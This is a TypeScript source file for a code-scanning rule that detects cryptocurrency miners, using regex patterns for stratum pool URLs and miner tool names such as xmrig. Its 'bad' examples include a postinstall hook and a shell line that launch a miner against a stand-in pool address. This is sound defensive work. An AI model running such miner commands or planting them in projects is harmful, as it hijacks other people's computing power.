import type { FileCheck } from '../../check.ts';

const FORMS: readonly RegExp[] = [
  /\bstratum\+(?:tcp|ssl|tls)s?:\/\/[\w.-]{3,120}(?::\d{1,5})?/gi,
  /\b(?:xmrig|minerd|cpuminer|t-rex|nbminer|phoenixminer|ethminer|lolminer)\b[^\n]{0,80}?\s(?:-o|--url|-u|--user|--donate-level|--algo|-a)\s{1,3}\S{3,120}/gi,
];
const LISTED = /\b(?:block|deny|detect|signature|rule|ioc|indicator|yara|suspicious|malicious|regex|pattern)/i;

export const check: FileCheck = {
  id: 'network-cryptominer',
  title: 'Mines cryptocurrency',
  severity: 'critical',
  kind: 'malice',
  confidence: 'high',
  since: '0.1.0',
  cwe: [506],
  why: `
    The program joins a mining pool and spends the machine's power for whoever owns the wallet.
    In code that promises something else, that is theft.`,
  fix: 'Remove the miner and treat the machine that ran it as taken over.',
  blindSpots: 'Miners without a pool address or a well-known name in the text are not recognised.',
  wants: {
    keywords: ['stratum+', 'xmrig', 'minerd', 'cpuminer', 'nbminer', 'phoenixminer', 'ethminer', 'lolminer', 't-rex'],
  },
  examples: {
    bad: [
      { 'postinstall.js': "spawn('./x', ['-o', '«stratum+tcp://pool.example.net:3333»', '-u', wallet]);\n" },
      { 'run.sh': './«xmrig -o pool.example.net:443» -u 48abc --tls\n' },
    ],
    good: [
      { 'rules.py': 'PATTERNS = [r"stratum\\+tcp://"]  # detect miners\n' },
      { 'README.md': 'The sandbox stops programs such as xmrig.\n' },
    ],
  },

  *find({ windows }) {
    for (const window of windows) {
      for (const form of FORMS) {
        for (const match of window.text.matchAll(form)) {
          const before = window.text.slice(Math.max(0, match.index - 80), match.index);
          if (LISTED.test(before.slice(before.lastIndexOf('\n') + 1))) continue;
          yield {
            at: window.spanOf(match),
            message: 'The code starts a miner or joins a mining pool.',
          };
        }
      }
    }
  },
};
